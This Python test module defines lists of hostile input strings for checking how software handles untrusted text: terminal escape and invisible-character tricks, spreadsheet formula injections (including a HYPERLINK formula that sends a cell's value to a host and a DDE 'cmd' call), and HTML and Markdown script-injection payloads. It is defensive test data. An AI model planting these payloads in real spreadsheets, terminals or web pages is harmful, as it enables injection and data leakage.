"""Texts as somebody may type them at a carrier, or into our own list: what they do where nobody expects it."""

ESC = "\x1b"

#: What a terminal acts on, or nobody sees.
CONTROLS: tuple[str, ...] = (
    f"{ESC}[2J{ESC}[31mred",
    f"{ESC}]8;;http://192.0.2.1/{ESC}\\here{ESC}]8;;{ESC}\\",  # a link
    f"{ESC}]0;title\x07",
    "\x9b31m",  # CSI in one character
    "all well\r\x08\x08WRONG",
    "a line\nzeta: completed",
    "a\x85b\u2028c\u2029d\x0be\x0cf",
    "\u202egpj.exe",
    "\u2066\u200bzero\u200d\ufeff\u00ad",
    "blank\u3164\u2800",
    "tag\U000e0041",
    "\x7f\x00end",
)
#: What a spreadsheet program takes for a formula; some only with other separators, or in Japan.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"open")',
    "@SUM(1+1)*cmd",
    "-2+3",
    "+cmd|'/C calc'!A0",
    "|cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d2+3",
    "\uff20SUM(1)",
    "\ufe66small",
    "x;=1+1",
    'x;"=1+1"',
    "x; @SUM(1)",
    '"=1+1"',
)
#: Markup of rich, of Markdown and of HTML.
MARKUPS: tuple[str, ...] = (
    "[red]bold[/red]",
    ":truck:",
    "![pixel](http://192.0.2.1/x.png)",
    "[open](http://192.0.2.1)",
    "<img src=http://192.0.2.1/x.png>",
    "`code` | table",
    "</td></table><h1>big",
    "<script>document.title = 'taken'</script>",
    "</script></style></title><script>document.title = 'taken'</script>",
    '"><svg onload="document.title = 1">',
    "' onmouseover='document.title = 1",
    "&lt;b&gt; &amp;amp;",
    "{{ 7 * 7 }}{% raw %}",
    "<!-- ]]> -->",
)
